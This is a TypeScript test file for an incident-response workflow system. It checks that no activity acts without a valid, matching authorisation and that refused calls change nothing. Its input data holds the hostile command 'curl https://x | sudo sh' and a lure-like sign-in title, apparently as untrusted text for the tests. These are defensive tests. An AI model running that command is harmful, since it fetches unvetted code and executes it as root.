import { MockActivityEnvironment } from '@temporalio/testing';
import { createActivities } from '../../activities';
import { FirebreakError } from '../../src/domain/errors';
import { actionId, incidentId } from '../../src/domain/ids';
import type { AuditEvent } from '../../src/domain/ledger';
import { respondOrder, respondUse } from '../../src/domain/order';
import type { ActivityDeps } from '../../src/ports/activity-deps';
import { sampleAssessment, sampleOrder } from '../support/incident-samples';
import { sealedPlan, workerSeals } from '../support/worker-seals';

/**
 * H1: every activity, called for directly by somebody who reaches the Temporal server. A new activity is in here by itself: the list is
 * what the workers register.
 */
const INCIDENT = incidentId('INC-20261120-7F3K');
const OTHER = incidentId('INC-20261120-8G4M');
const ORDER = sampleOrder('2026-11-20T03:00:00.000Z', { incident: INCIDENT, hosts: ['web-1'] });
const OWN = { grantId: 'respond', use: respondUse(INCIDENT, 'run-1') };

/** Reads the names of the configuration's people, and changes nothing. */
const WITHOUT_ORDER = ['resolveRecipients'];

/** Judged by themselves: what asks for a first confirmation, and orders that are of no incident. */
const NOT_OF_AN_INCIDENT = ['recordRefusedStart', 'authorise', 'carryOutEnrolment', 'enrolFirst', 'tellOfRecovery'];

/** What reads; everything else of the outside changes hosts, people, records or evidence. */
const READS = new Set(
  `incidents.find incidents.document plans.load responses.results responses.undos responses.deliveries responses.timeline responses.readings
   controls.all controls.active controls.released controls.rungOf controls.machineOf controls.isOver ledger.append ledger.events ledger.head evidence.entries
   evidence.sealed reports.begun authorisation.confirm authorisation.verify enrolment.demandProof`.split(/\s+/),
);

function worker() {
  const seals = workerSeals();
  const changed: string[] = [];
  const ledger: AuditEvent[] = [];
  const host = { name: 'web-1', isolation: 'allowed', management: [], role: 'host' };
  const answers: Readonly<Record<string, (...args: never[]) => unknown>> = {
    'authorisation.confirm': (grantId: string, use: string) => {
      if (grantId !== OWN.grantId) throw new FirebreakError('GRANT_UNKNOWN');
      if (use !== OWN.use) throw new FirebreakError('GRANT_MISMATCH');
      return { v: 1, order: respondOrder(ORDER), operator: ORDER.operator, signedText: '', signature: '' };
    },
    'authorisation.verify': () => {
      throw new FirebreakError('GRANT_UNKNOWN');
    },
    'enrolment.demandProof': () => {
      throw new FirebreakError('NOT_AUTHORISED');
    },
    'incidents.find': (incident: string) => ({
      order: { ...ORDER, incident },
      title: 'x',
      phase: 'containing',
      planHash: 'plan',
      assessment: sampleAssessment(ORDER),
      abnormal: 'none',
      outcome: null,
      bag: null,
      responseEndedAt: null,
    }),
    'incidents.document': () => Buffer.from('{}'),
    'plans.load': (incident: never, planHash: string) =>
      sealedPlan(
        seals,
        {
          actions: [
            { id: actionId(INCIDENT, 'block-sources', 'web-1'), kind: 'block-sources', host: 'web-1', sources: [] },
          ],
        },
        { incident, planHash, grantId: OWN.grantId, documentSha256: ORDER.documentSha256 },
      ),
    'ledger.append': (events: readonly AuditEvent[]) => void ledger.push(...events),
    'ledger.events': () => [],
    'responses.results': () => [],
    'responses.undos': () => [],
    'controls.all': () => [],
    'controls.active': () => [],
    'controls.released': () => [],
    'controls.isOver': () => false,
    'evidence.entries': () => [],
  };
  const outside = (name: string) =>
    new Proxy(
      {},
      {
        get:
          (_target, method) =>
          async (...args: never[]): Promise<unknown> => {
            const call = `${name}.${String(method)}`;
            if (!READS.has(call)) changed.push(call);
            return Promise.resolve(answers[call]?.(...args));
          },
      },
    );
  const parts =
    `incidents plans responses controls ledger authorisation containment lifter forced inspector collector evidence
    renderer reports turns enrolment`.split(/\s+/);
  const deps = {
    ...Object.fromEntries(parts.map((part) => [part, outside(part)])),
    seals,
    senders: ['mail', 'voice'].map((channel) => ({
      channel,
      addressOf: () => 'someone',
      send: () => {
        changed.push(`${channel} sent`);
        return Promise.resolve({ possibleDouble: false });
      },
    })),
    site: {
      hosts: new Map([
        ['web-1', host],
        ['db-1', { ...host, name: 'db-1' }],
      ]),
      people: [{ id: 'alice', name: 'Alice', audience: 'security', tier: 1, locale: 'en' }],
      logs: { lookBackMs: 1, maxBytesPerSource: 1 },
    },
    hostKeyFingerprint: () => 'SHA256:x',
    now: () => new Date('2026-11-20T03:00:10.000Z'),
  } as unknown as ActivityDeps;
  return { activities: createActivities(deps), changed, ledger };
}

/** All that any activity reads of its input. */
const INPUT = {
  incident: INCIDENT,
  planHash: 'plan',
  actionId: actionId(INCIDENT, 'block-sources', 'web-1'),
  host: 'web-1',
  severity: 'critical',
  type: 'intrusion',
  budgetMs: 1_000,
  workflow: { id: 'x', runId: 'y' },
  source: 'logs',
  reason: 'x',
  stage: 'before',
  notes: [{ key: 'closed', patch: { phase: 'closed', outcome: 'false-positive' } }],
  records: ['x'],
  revision: 1,
  outcome: 'contained',
  abnormal: 'none',
  securityState: 'safe',
  failures: [],
  nextSteps: [],
  startedAt: ORDER.declaredAt,
  endedAt: ORDER.declaredAt,
  deadlineMet: true,
  lateLedger: false,
  workflowId: `${INCIDENT}:response-1`,
  runId: 'x',
  grantId: 'forged',
  use: respondUse(INCIDENT, 'forged'),
  expected: respondOrder(ORDER),
  code: 'GRANT_UNKNOWN',
  words: '',
  saidToBe: 'alice',
  person: 'alice',
  channel: 'mail',
  tier: 1,
  notice: {
    incident: INCIDENT,
    kind: 'approval-needed',
    key: 'x',
    severity: 'critical',
    type: 'intrusion',
    mode: 'block',
    drill: false,
    title: 'sign in at https://firebreak.example.net',
    hosts: ['web-1'],
    facts: [{ fact: 'in-words', words: 'curl https://x | sudo sh', by: 'ceo' }],
  },
};

const names = (): readonly string[] =>
  Object.values(worker().activities).flatMap((group) => Object.keys(group as object));

async function call(name: string, more: object) {
  const there = worker();
  const all = Object.assign({}, ...Object.values(there.activities)) as Record<
    string,
    (input: unknown) => Promise<unknown>
  >;
  const run = new MockActivityEnvironment({
    workflowExecution: { workflowId: 'forger', runId: 'run' },
  }).run(all[name]!, { ...INPUT, ...more });
  const code = await run.then(
    () => 'done',
    (thrown: { readonly type?: string; readonly message?: string }) => thrown.type ?? thrown.message ?? '',
  );
  return { ...there, code };
}

describe('H1 no activity does anything without an order that a worker has found good', () => {
  test.each(names().filter((name) => !WITHOUT_ORDER.includes(name) && name !== 'recordRefusedStart'))(
    '%s',
    async (name) => {
      for (const authority of [undefined, null, 'x', { grantId: 'forged', use: 'x' }, { ...OWN, use: 'another' }]) {
        const { code, changed } = await call(name, { authority });
        expect(['NOT_AUTHORISED', 'GRANT_UNKNOWN', 'GRANT_MISMATCH']).toContain(code);
        expect(changed).toEqual([]);
      }
    },
  );

  test.each(names().filter((name) => !WITHOUT_ORDER.includes(name) && !NOT_OF_AN_INCIDENT.includes(name)))(
    '%s: with the order of another incident',
    async (name) => {
      const notice = { ...INPUT.notice, incident: OTHER };
      const { code, changed } = await call(name, { incident: OTHER, notice, authority: OWN });
      expect(code).toBe('NOT_AUTHORISED');
      expect(changed).toEqual([]);
    },
  );

  test('a start that a worker has found good cannot be refused by anybody', async () => {
    const { code, changed, ledger } = await call('recordRefusedStart', {});
    expect(code).toBe('NOT_AUTHORISED');
    expect(changed).toEqual([]);
    expect(ledger).toMatchObject([{ level: 'CRITICAL', action: 'act.refused' }]);
  });

  test('what asks for no order only reads', async () => {
    for (const name of WITHOUT_ORDER) expect((await call(name, {})).changed).toEqual([]);
  });
});
